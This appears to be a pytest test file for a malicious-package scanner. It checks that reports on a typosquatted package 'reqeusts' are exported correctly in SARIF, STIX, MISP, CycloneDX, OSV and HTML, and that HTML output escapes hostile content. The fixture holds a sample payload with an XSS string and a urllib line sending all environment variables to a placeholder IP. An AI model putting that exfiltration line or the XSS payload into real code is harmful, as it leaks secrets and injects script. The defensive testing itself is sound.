"""Every format is read back by its own library, and a hostile package's text stays text in each."""

from __future__ import annotations

import base64
import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import stix2
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator
from pymisp import MISPEvent
from sarif_pydantic import Sarif

from pumpkin.analysis import outputs, static
from pumpkin.analysis.outputs import misp, osv

HOSTILE = b"""import os, urllib.request
x = "</script><img src=x onerror=alert(1)>\\u202e"
urllib.request.urlopen("http://198.51.100.9/<b>?" + str(os.environ))
"""


@pytest.fixture(scope="module")
def report() -> dict[str, Any]:
    made = static.scan_files(
        {"setup.py": HOSTILE, "a/<i>.py": HOSTILE, "b.pkl": b"x"}, "reqeusts-1.0", "pypi"
    ).as_json()
    made["artifact"] |= {"purl": "pkg:pypi/reqeusts@1.0"}
    made["created"] = "2026-11-21T10:00:00+00:00"
    made["proof"] = {"token": base64.b64encode(b"not a real token").decode(), "gen_time": "2026-11-21T10:00:01+00:00"}
    return made


def test_sarif_is_read_by_a_model_of_the_standard(report: dict[str, Any]) -> None:
    log = Sarif.model_validate_json(outputs.write(report, "sarif"))
    run = log.runs[0]
    rules = [rule.id for rule in run.tool.driver.rules or []]
    results = run.results or []
    assert (log.version, len(results)) == ("2.1.0", len(report["findings"]))
    assert [rules[result.rule_index] for result in results] == [one["rule"] for one in report["findings"]]


def test_stix_is_read_by_its_library(report: dict[str, Any]) -> None:
    bundle = stix2.parse(outputs.write(report, "stix"))
    kinds = {one.type for one in bundle.objects}
    assert {"identity", "file", "malware-analysis", "indicator", "attack-pattern", "note"} <= kinds
    analysis = next(one for one in bundle.objects if one.type == "malware-analysis")
    assert analysis.result == "malicious"


def test_misp_is_read_by_its_library_with_package_and_proof(report: dict[str, Any]) -> None:
    event = MISPEvent()
    event.from_json(outputs.write(report, "misp"))
    assert [one.name for one in event.objects] == ["file", "malicious-package-report", "trusted-timestamp"]
    package = event.objects[1]
    assert package.get_attributes_by_relation("package-purl")[0].value == "pkg:pypi/reqeusts@1.0"


def test_a_misp_feed_needs_no_key(report: dict[str, Any], tmp_path: Path) -> None:
    event = misp.event(report)
    misp.feed([event], tmp_path)
    manifest = json.loads((tmp_path / "manifest.json").read_text())
    stored = json.loads((tmp_path / f"{event.uuid}.json").read_text())
    assert (list(manifest), stored["Event"]["uuid"]) == ([str(event.uuid)], str(event.uuid))
    assert str(event.uuid) in (tmp_path / "hashes.csv").read_text()


def test_cyclonedx_is_valid_by_its_schema(report: dict[str, Any]) -> None:
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(outputs.write(report, "cyclonedx")) is None


def test_osv_is_valid_and_names_the_package(report: dict[str, Any]) -> None:
    record = osv.parse(outputs.write(report, "osv"))
    assert (record.affected[0].package.ecosystem, record.affected[0].package.name) == ("PyPI", "reqeusts")
    assert record.affected[0].versions == ["1.0"]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        self.seen |= {f"@{name}" for name, _ in attrs if name.startswith("on") or name in ("src", "href")}


def test_html_holds_no_element_of_the_package(report: dict[str, Any]) -> None:
    parser = _Tags()
    parser.feed(outputs.write(report, "html"))
    assert parser.seen.isdisjoint({"script", "img", "b", "i", "@onerror", "@src", "@href"})


@pytest.mark.parametrize("form", sorted(outputs.MEDIA))
def test_the_same_report_gives_the_same_text(report: dict[str, Any], form: str) -> None:
    assert outputs.write(report, form) == outputs.write(report, form)


@pytest.mark.parametrize("form", sorted(outputs.MEDIA))
def test_a_clean_report_without_a_name_is_written_too(form: str) -> None:
    scan = static.scan_files({"a.txt": b"hello"}, "x")
    assert outputs.write({**scan.as_json(), "created": "2026-11-21T10:00:00+00:00"}, form)


def test_an_unknown_format_is_refused(report: dict[str, Any]) -> None:
    with pytest.raises(KeyError):
        outputs.write(report, "pdf")
